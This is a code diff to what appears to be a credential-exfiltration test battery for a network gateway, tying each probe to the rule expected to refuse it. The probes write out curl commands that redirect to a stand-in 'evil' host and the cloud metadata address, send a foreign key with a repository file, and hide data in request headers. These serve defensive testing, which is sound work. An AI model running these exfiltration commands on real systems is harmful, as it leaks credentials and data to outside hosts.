@@ -64,8 +64,16 @@ const forms: readonly (readonly [string, string])[] = [
 ];
 const decisive = new Set(["gzip"]);
 
-const refused: NonNullable<Probe["entry"]> = ({ kind, verdict }) =>
-  (kind === "request" || kind === "refusal" || kind === "credential") && verdict === "refuse";
+/** An entry of this kind refused by this rule, about this host, where one is told. */
+const refused =
+  (kind: string, rule: string, about?: string): NonNullable<Probe["entry"]> =>
+  (entry) =>
+    entry.kind === kind &&
+    entry.verdict === "refuse" &&
+    entry.rule === rule &&
+    (about === undefined || entry.sealed["host"] === about);
+/** The rule that binds the battery's one credential. */
+const bindsKey = "user:credentials.allowed";
 
 const leaks = forms.map(
   ([form, title]): Probe => ({
@@ -79,7 +87,7 @@ const leaks = forms.map(
     files: (rig) => ({ "send.py": send, "real.txt": keyOf(rig) }),
     inside: () => `timeout 8 python3 send.py ${host} ${form} real.txt > loot 2>&1`,
     landed: carried,
-    entry: refused,
+    entry: refused("refusal", bindsKey, host),
   }),
 );
 
@@ -89,10 +97,11 @@ interface Sending {
   readonly title: string;
   readonly line: (rig: Rig) => string;
   readonly landed: Probe["landed"];
+  /** Undefined: nothing is refused, and the request is on the record. */
+  readonly entry?: Probe["entry"];
   readonly grants?: readonly string[];
   readonly uncontrolled?: string;
   readonly decisive?: true;
-  readonly telemetry?: true;
   readonly source?: string;
 }
 
@@ -117,6 +126,7 @@ const reflections = ["echo", "echo-gzip", "echo-base64", "echo-header"].map(
     line: () =>
       `${curl} -i --compressed ${bound} https://${host}/v1/${path} > loot; base64 -d < loot >> loot 2>/dev/null; tail -n 1 loot | base64 -d >> loot`,
     landed: cameBack,
+    entry: refused("reply", "gateway:credential-reflected", host),
     uncontrolled: noBroker,
     ...(path === "echo-gzip" ? { decisive: true } : {}),
   }),
@@ -131,6 +141,7 @@ const sendings: readonly Sending[] = [
     line: () => `${curl} -L 'https://${host}/v1/to?url=https://${evil.name}/v1/x' > loot`,
     landed: ({ seen }) =>
       seen.some((one) => one.kind === "request" && one.ip === evil.ip) ? `${evil.ip} was reached` : undefined,
+    entry: refused("refusal", "default", evil.name),
   },
   {
     id: "redirect-metadata",
@@ -139,6 +150,7 @@ const sendings: readonly Sending[] = [
     line: () => `${curl} -L 'https://${host}/v1/to?url=http://169.254.169.254/latest/' > loot`,
     landed: ({ seen }) =>
       seen.some((one) => one.kind === "connection" && one.ip === "169.254.169.254") ? "it was reached" : undefined,
+    entry: refused("refusal", "default", "169.254.169.254"),
   },
   {
     id: "redirect-key",
@@ -155,6 +167,7 @@ const sendings: readonly Sending[] = [
       );
       return one === undefined ? undefined : "the real key reached turn.allowed.test";
     },
+    entry: refused("refusal", bindsKey, "turn.allowed.test"),
     uncontrolled: noBroker,
   },
   {
@@ -167,6 +180,7 @@ const sendings: readonly Sending[] = [
       const one = seen.find((each) => each.kind === "request" && /turn\.allowed\.test/.test(each.headers.join("\n")));
       return one === undefined ? undefined : "it was sent to turn.allowed.test";
     },
+    entry: refused("refusal", bindsKey, "turn.allowed.test"),
   },
   {
     id: "key-of-another-session",
@@ -175,6 +189,7 @@ const sendings: readonly Sending[] = [
     line: () =>
       `${curl} -H "x-api-key: $(printf %s "$${keyVariable}" | sed -E 's/[0-9a-f]{48}/${"5ca1ab1e".repeat(6)}/')" https://${host}/v1/x > loot`,
     landed: got(allowed.ip, /5ca1ab1e/),
+    entry: refused("refusal", "gateway:credential-foreign", host),
     uncontrolled: "without a boundary there are no placeholders",
     source: "srt: an id is the only binding",
   },
@@ -184,6 +199,7 @@ const sendings: readonly Sending[] = [
     title: "somebody else's key, at an allowed host",
     line: ({ token }) => `${curl} -H 'x-api-key: sk-attacker-${token}' -d @README.md https://${host}/v1/files > loot`,
     landed: got(allowed.ip, /sk-attacker-/),
+    entry: refused("refusal", "gateway:credential-foreign", host),
     source: "exfiltration by a vendor's own files interface",
   },
   {
@@ -195,13 +211,13 @@ const sendings: readonly Sending[] = [
       const one = seen.find((each) => each.kind === "request" && !each.target.startsWith("/v1/"));
       return one?.kind === "request" ? `${one.method} ${one.target}` : undefined;
     },
+    entry: refused("refusal", "default", host),
   },
   ...(["user-agent: $DATA", "if-none-match: $DATA", "cookie: a=$DATA"] as const).map(
     (header): Sending => ({
       id: `metadata-${header.split(":")[0]}`,
       technique: 66,
       title: `data in ${header.split(":")[0]}, to an allowed host`,
-      telemetry: true,
       line: ({ token }) => `DATA=${token}; ${curl} -H "${header}" https://${host}/v1/${token} > loot`,
       landed: () => undefined,
       uncontrolled: "an allowed request: the record of it is the point",
@@ -215,28 +231,25 @@ function dispatch({
   title,
   line,
   landed,
+  entry,
   grants,
   uncontrolled,
   decisive: first,
-  telemetry,
   source,
 }: Sending): Probe {
-  const must = telemetry !== true;
   return {
     id,
     technique,
     title,
     source: source ?? "list",
-    record: must ? "must" : "telemetry",
+    record: entry === undefined ? "telemetry" : "must",
     ...(first === undefined ? {} : { decisive: true }),
     ...(uncontrolled === undefined ? {} : { uncontrolled }),
     ...(grants === undefined ? {} : { grants }),
     notHere: (place) => (technique === 62 && id !== "redirect-key" ? undefined : rivals(place)),
     inside: line,
     landed,
-    entry: must
-      ? (entry) => entry.verdict === "refuse" && entry.kind !== "exec"
-      : ({ kind, sealed }, { token }) => kind === "request" && JSON.stringify(sealed).includes(token),
+    entry: entry ?? (({ kind, sealed }, { token }) => kind === "request" && JSON.stringify(sealed).includes(token)),
     named: () => (id === "redirect-metadata" ? "169.254.169.254" : evil.name),
   };
 }
